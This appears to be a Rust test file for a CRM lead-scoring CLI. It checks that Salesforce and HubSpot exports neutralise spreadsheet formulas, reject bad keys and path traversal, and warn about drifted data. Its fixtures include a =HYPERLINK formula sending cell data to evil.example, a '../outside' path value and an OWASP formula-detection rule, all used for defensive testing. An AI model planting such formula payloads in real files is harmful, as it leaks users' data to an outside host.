//! Hostile inputs of issue 29, a test per class: CRM files with no live
//! formula and no key that is no key, a universe unlike training named on
//! stderr and in `status`, contacts that are repeated, shared or refused,
//! statistics that need a warning or a refusal, and the registry.

mod common;
use common::*;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

/// A small synth export (its accounts are its universe) and a model
/// trained on it.
fn fixture() -> &'static (tempfile::TempDir, PathBuf, PathBuf) {
    static F: OnceLock<(tempfile::TempDir, PathBuf, PathBuf)> = OnceLock::new();
    F.get_or_init(|| {
        let t = tempdir();
        let data = synth(t.path(), 800, 800, 71);
        let model = t.path().join("model");
        train_sample(&data, &model);
        (t, data, model)
    })
}

/// A CSV file's header and records.
fn read_csv(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let mut r = csv::Reader::from_path(path).unwrap();
    let header = r.headers().unwrap().iter().map(String::from).collect();
    let rows = r
        .records()
        .map(|x| x.unwrap().iter().map(String::from).collect())
        .collect();
    (header, rows)
}

fn write_csv(path: &Path, header: &[String], rows: &[Vec<String>]) {
    let mut w = csv::Writer::from_path(path).unwrap();
    w.write_record(header).unwrap();
    for r in rows {
        w.write_record(r).unwrap();
    }
    w.flush().unwrap();
}

fn col(header: &[String], name: &str) -> usize {
    header.iter().position(|h| h == name).unwrap()
}

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";

/// Whether a spreadsheet would evaluate a cell (OWASP's first characters).
fn live(cell: &str) -> bool {
    cell.trim_start_matches(' ')
        .starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])
        && cell.trim().parse::<f64>().is_err()
}

#[test]
fn crm_files_hold_no_live_formula_and_no_key_that_is_no_key() {
    let (_, data, _) = fixture();
    let t = tempdir();
    let d = t.path().join("data");
    copy_dir(data, &d);
    // an industry written as a formula, and one with emoji, in training
    let acc = d.join("accounts.csv");
    let (h, mut rows) = read_csv(&acc);
    let ind = col(&h, "industry");
    for r in &mut rows {
        match r[ind].as_str() {
            "IT Services" => r[ind] = FORMULA.into(),
            "Media" => r[ind] = "Media 🚀🚀 👨‍👩‍👧 Studios".into(),
            _ => {}
        }
    }
    write_csv(&acc, &h, &rows);
    // the sample keys Salesforce by an External ID and HubSpot by domain
    let cfg = std::fs::read_to_string(d.join("scorebook.toml"))
        .unwrap()
        .replace(
            "key = \"Scorebook_Account_Key__c\"\n",
            "key = \"External_Id__c\"\nfields = { segment = \"Segment__c\" }\n",
        );
    assert!(cfg.contains("Segment__c") && cfg.contains("key = \"Company Domain Name\""));
    std::fs::write(
        d.join("scorebook.toml"),
        cfg + "\n[crm]\nreasons_length = 40\n",
    )
    .unwrap();
    let model = t.path().join("m");
    train_sample(&d, &model);
    // the universe: an id that is a formula, a domain that is no domain,
    // two accounts sharing a domain, an id repeated
    let (id, dom) = (col(&h, "account_id"), col(&h, "domain"));
    rows[0][id] = "=1+1".into();
    rows[1][dom] = "@evil.example".into();
    rows[2][dom] = "shared.example".into();
    rows[3][dom] = "shared.example".into();
    let repeated = rows[4].clone();
    rows.push(repeated.clone());
    let universe = t.path().join("universe.csv");
    write_csv(&universe, &h, &rows);
    let scores = t.path().join("scores.parquet");
    let r = score_as_of(&model, &universe, "2025-07-01", &scores);
    assert!(r.stderr.contains("repeat an account id"), "{}", r.stderr);

    let sf = t.path().join("sf.csv");
    let r = run(&[
        "export-crm",
        "--scores",
        s(&scores),
        "--model",
        s(&model),
        "--target",
        "salesforce",
        "--out",
        s(&sf),
    ])
    .ok();
    assert!(
        r.stderr.contains("cannot be a Salesforce key") && r.stderr.contains("spreadsheet formula"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("already took"), "{}", r.stderr);
    let (sh, srows) = read_csv(&sf);
    assert_eq!(
        srows.len(),
        rows.len() - 2,
        "the formula id and the repeat left out"
    );
    let seg = col(&sh, "Segment__c");
    let reasons = col(&sh, "Scorebook_Reasons__c");
    let mut neutralized = 0;
    for row in &srows {
        for cell in row {
            assert!(!live(cell), "a live cell {cell:?} in {row:?}");
        }
        assert_ne!(row[0], "=1+1");
        neutralized += usize::from(row[seg].starts_with("'=HYPERLINK"));
        let units = row[reasons].encode_utf16().count();
        assert!(units <= 40, "{units} UTF-16 units: {:?}", row[reasons]);
    }
    assert!(
        neutralized > 10,
        "the formula industry's accounts: {neutralized}"
    );
    // one row per key
    let keys: std::collections::HashSet<&String> = srows.iter().map(|r| &r[0]).collect();
    assert_eq!(keys.len(), srows.len());

    let hs = t.path().join("hs.csv");
    let r = run(&[
        "export-crm",
        "--scores",
        s(&scores),
        "--model",
        s(&model),
        "--target",
        "hubspot",
        "--universe",
        s(&universe),
        "--out",
        s(&hs),
    ])
    .ok();
    assert!(r.stderr.contains("is not a domain name"), "{}", r.stderr);
    let (_, hrows) = read_csv(&hs);
    assert!(hrows
        .iter()
        .all(|r| r[0] != "@evil.example" && !live(&r[0])));
    assert_eq!(
        hrows.iter().filter(|r| r[0] == "shared.example").count(),
        1,
        "a shared domain is written once"
    );
    for row in &hrows {
        assert!(row.iter().all(|c| !live(c)), "{row:?}");
    }

    // --changed-since of scored deals against scored accounts
    let deals = t.path().join("deals.parquet");
    run(&[
        "score",
        "--model",
        s(&model),
        "--opportunities",
        s(&d.join("opportunities.csv")),
        "--universe",
        s(&universe),
        "--as-of",
        "2025-07-01",
        "--out",
        s(&deals),
    ])
    .ok();
    run(&[
        "export-crm",
        "--scores",
        s(&scores),
        "--model",
        s(&model),
        "--target",
        "salesforce",
        "--changed-since",
        s(&deals),
        "--out",
        s(&t.path().join("x.csv")),
    ])
    .fails_with(1, "is a file of scored deals");
    assert!(!t.path().join("x.csv").exists());

    // scores of another model than --model
    let other = t.path().join("other");
    train_sample(data, &other);
    let r = run(&[
        "export-crm",
        "--scores",
        s(&scores),
        "--model",
        s(&other),
        "--target",
        "salesforce",
        "--out",
        s(&t.path().join("y.csv")),
    ])
    .ok();
    assert!(r.stderr.contains("was scored by model"), "{}", r.stderr);
}

#[test]
fn a_universe_unlike_training_is_named_not_scored_silently() {
    let (_, data, model) = fixture();
    let t = tempdir();
    let acc = data.join("accounts.csv");
    let (h, rows) = read_csv(&acc);
    let base = t.path().join("base.parquet");
    score_as_of(model, &acc, "2025-07-01", &base);
    // title-cased headers are matched: the same scores, no warning
    let titled: Vec<String> = h
        .iter()
        .map(|c| match c.as_str() {
            "industry" => "Industry".into(),
            "employees" => "Employees".into(),
            "annual_revenue" => "Annual Revenue".into(),
            c => c.into(),
        })
        .collect();
    let u1 = t.path().join("titled.csv");
    write_csv(&u1, &titled, &rows);
    let s1 = t.path().join("s1.parquet");
    let r = score_as_of(model, &u1, "2025-07-01", &s1);
    assert!(!r.stderr.contains("has no column"), "{}", r.stderr);
    assert_eq!(
        numbers(&read_parquet(&s1), "score"),
        numbers(&read_parquet(&base), "score")
    );
    // revenue under another name, lists split by commas
    let mut renamed = h.clone();
    renamed[col(&h, "annual_revenue")] = "revenue".into();
    let tech = col(&h, "technologies");
    let commas: Vec<Vec<String>> = rows
        .iter()
        .map(|r| {
            let mut r = r.clone();
            r[tech] = r[tech].replace(';', ",");
            r
        })
        .collect();
    let u2 = t.path().join("drifted.csv");
    write_csv(&u2, &renamed, &commas);
    let s2 = t.path().join("s2.parquet");
    let r = score_as_of(model, &u2, "2025-07-01", &s2);
    assert!(
        r.stderr
            .contains("has no column `annual_revenue`, which the model reads"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("list column `technologies`") && r.stderr.contains("split by `,`"),
        "{}",
        r.stderr
    );
    let status = strings(&read_parquet(&s2), "status");
    assert!(status.iter().all(|s| s
        .as_deref()
        .unwrap()
        .contains("no `annual_revenue` column in the universe")));
    // open deals scored against that universe say the same
    let deals = t.path().join("deals.parquet");
    let r = run(&[
        "score",
        "--model",
        s(model),
        "--opportunities",
        s(&data.join("opportunities.csv")),
        "--universe",
        s(&u2),
        "--as-of",
        "2025-07-01",
        "--out",
        s(&deals),
    ])
    .ok();
    assert!(
        r.stderr.contains("has no column `annual_revenue`"),
        "{}",
        r.stderr
    );
    let status = strings(&read_parquet(&deals), "status");
    assert!(status.iter().any(|s| s
        .as_deref()
        .unwrap()
        .contains("no `annual_revenue` column in the universe")));
    // signals that stop months before --as-of
    let r = run(&[
        "score",
        "--model",
        s(model),
        "--universe",
        s(&acc),
        "--signals",
        s(&data.join("signals.parquet")),
        "--as-of",
        "2026-03-01",
        "--out",
        s(&t.path().join("s3.parquet")),
    ])
    .ok();
    assert!(
        r.stderr.contains("days before --as-of 2026-03-01"),
        "{}",
        r.stderr
    );
}

#[test]
fn statistics_that_cannot_be_trusted_are_refused_or_warned() {
    let (_, data, _) = fixture();
    let t = tempdir();
    // one win in a thousand deals: refused, naming the test period
    let rare = t.path().join("rare");
    copy_dir(data, &rare);
    let opp = rare.join("opportunities.csv");
    let (h, mut rows) = read_csv(&opp);
    let st = col(&h, "stage");
    let mut k = 0;
    for r in &mut rows {
        if r[st].to_lowercase().contains("won") {
            k += 1;
            if k % 400 != 0 {
                r[st] = "Closed Lost".into();
            }
        }
    }
    write_csv(&opp, &h, &rows);
    let r = run(&[
        "train",
        "--config",
        s(&rare.join("scorebook.toml")),
        "--out",
        s(&t.path().join("m1")),
    ]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(!r.stderr.contains("NaN"), "{}", r.stderr);
    assert!(
        r.stderr.contains("won") && r.stderr.contains("at least"),
        "{}",
        r.stderr
    );
    assert!(!t.path().join("m1").exists());

    // every deal twice under new ids, a text copy of the stage, a column
    // with one value per deal
    let dup = t.path().join("dup");
    copy_dir(data, &dup);
    let opp = dup.join("opportunities.csv");
    let (mut h, rows) = read_csv(&opp);
    let (id, st) = (col(&h, "opportunity_id"), col(&h, "stage"));
    h.extend(["phase".to_string(), "memo".to_string()]);
    let mut twice = vec![];
    for (i, r) in rows.iter().enumerate() {
        for copy in 0..2 {
            let mut r = r.clone();
            if copy == 1 {
                r[id] = format!("{}-copy", r[id]);
            }
            let phase = r[st].to_uppercase();
            r.push(phase);
            r.push(format!("memo {i}-{copy}"));
            twice.push(r);
        }
    }
    write_csv(&opp, &h, &twice);
    let cfg = std::fs::read_to_string(dup.join("scorebook.toml"))
        .unwrap()
        .replace("[features]\n", "[features]\ndeal = [\"phase\", \"memo\"]\n");
    std::fs::write(dup.join("scorebook.toml"), cfg).unwrap();
    let m2 = t.path().join("m2");
    let r = train_sample(&dup, &m2);
    assert!(
        r.stderr
            .contains("repeat another's account, dates, stage and amount"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("`phase` alone separates won from lost"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("`memo` has") && r.stderr.contains("no feature"),
        "{}",
        r.stderr
    );
    let report = std::fs::read_to_string(m2.join("report.html")).unwrap();
    assert!(report.contains("`phase` alone separates") && !report.contains("NaN"));

    // industries that differ only in case are one level, scored alike
    let case = t.path().join("case");
    copy_dir(data, &case);
    let acc = case.join("accounts.csv");
    let (h, mut rows) = read_csv(&acc);
    let ind = col(&h, "industry");
    for (i, r) in rows.iter_mut().enumerate() {
        if r[ind] == "Software" && i % 4 == 0 {
            r[ind] = "software".into();
        }
    }
    write_csv(&acc, &h, &rows);
    let m3 = t.path().join("m3");
    let r = train_sample(&case, &m3);
    assert!(r.stderr.contains("differ only in case"), "{}", r.stderr);
    let model: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(m3.join("model.json")).unwrap()).unwrap();
    let levels = model["spec"]["industries"].as_array().unwrap();
    assert!(levels.iter().any(|l| l == "Software"));
    assert!(!levels.iter().any(|l| l == "software"), "{levels:?}");
    // a universe spelling it `SOFTWARE` scores as `Software`
    let (mut one, mut other) = (rows[0].clone(), rows[0].clone());
    one[ind] = "Software".into();
    other[ind] = "SOFTWARE".into();
    // new ids: no earlier won deal of the account counts
    one[col(&h, "account_id")] = "Z1".into();
    other[col(&h, "account_id")] = "Z2".into();
    let u = t.path().join("u.csv");
    write_csv(&u, &h, &[one, other]);
    let out = t.path().join("u.parquet");
    score_as_of(&m3, &u, "2025-07-01", &out);
    let sc = numbers(&read_parquet(&out), "score");
    assert_eq!(sc[0], sc[1]);
    // the SQL reads it so too
    let sql = export_sql(&m3, "duckdb", "2025-07-01");
    assert!(sql.contains("'software'"), "the alias is in the SQL");
}

#[test]
fn the_registry_lists_what_it_can_and_follows_no_path_out() {
    let (_, data, model) = fixture();
    let t = tempdir();
    std::fs::copy(data.join("accounts.csv"), t.path().join("u.csv")).unwrap();
    let reg = t.path().join("models");
    std::fs::create_dir_all(&reg).unwrap();
    copy_dir(model, &reg.join("good"));
    copy_dir(model, &reg.join("broken"));
    std::fs::write(reg.join("broken/model.json"), "{\"format_version\": 1").unwrap();
    let r = run(&["models", s(&reg)]).ok();
    assert!(
        r.stdout.contains("good") && r.stdout.contains("broken"),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("cannot be read"), "{}", r.stdout);
    // a champion that was deleted
    std::fs::write(reg.join("CHAMPION"), "gone\n").unwrap();
    let r = run(&["models", s(&reg)]).ok();
    assert!(r.stderr.contains("names `gone`"), "{}", r.stderr);
    run(&[
        "score",
        "--model",
        s(&reg.join("champion")),
        "--universe",
        s(&t.path().join("u.csv")),
        "--out",
        s(&t.path().join("o.parquet")),
    ])
    .fails_with(1, "holds no such model");
    // a champion outside the folder is never followed
    let outside = t.path().join("outside");
    copy_dir(model, &outside.join("m"));
    std::fs::write(reg.join("CHAMPION"), "../outside/m\n").unwrap();
    run(&[
        "score",
        "--model",
        s(&reg.join("champion")),
        "--universe",
        s(&t.path().join("u.csv")),
        "--out",
        s(&t.path().join("o.parquet")),
    ])
    .fails_with(1, "not a model folder of");
    // a model.json passed for the model directory
    run(&[
        "score",
        "--model",
        s(&model.join("model.json")),
        "--universe",
        s(&t.path().join("u.csv")),
        "--out",
        s(&t.path().join("o.parquet")),
    ])
    .fails_with(1, "is a file, not a model directory");
}

#[test]
fn the_same_data_from_two_folders_is_the_same_model_version() {
    let (_, data, model) = fixture();
    let t = tempdir();
    let d = t.path().join("elsewhere");
    copy_dir(data, &d);
    let m = t.path().join("model");
    train_sample(&d, &m);
    let version = |p: &Path| {
        let v: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(p.join("model.json")).unwrap()).unwrap();
        v["model_version"].as_str().unwrap().to_string()
    };
    assert_eq!(version(&m), version(model));
}

#[test]
fn a_quoted_header_with_escaped_quotes_is_read_as_written() {
    let (_, data, _) = fixture();
    let t = tempdir();
    let d = t.path().join("data");
    copy_dir(data, &d);
    let acc = d.join("accounts.csv");
    let (mut h, rows) = read_csv(&acc);
    h.push("Partner \"Tier\"".into());
    let rows: Vec<Vec<String>> = rows
        .into_iter()
        .enumerate()
        .map(|(i, mut r)| {
            r.push(["Gold", "Silver", "None"][i % 3].into());
            r
        })
        .collect();
    write_csv(&acc, &h, &rows);
    let text = std::fs::read_to_string(&acc).unwrap();
    assert!(text
        .lines()
        .next()
        .unwrap()
        .contains("\"Partner \"\"Tier\"\"\""));
    let cfg = std::fs::read_to_string(d.join("scorebook.toml"))
        .unwrap()
        .replace("[features]\n", "[features]\nextra = ['Partner \"Tier\"']\n");
    std::fs::write(d.join("scorebook.toml"), cfg).unwrap();
    train_sample(&d, &t.path().join("m"));
}
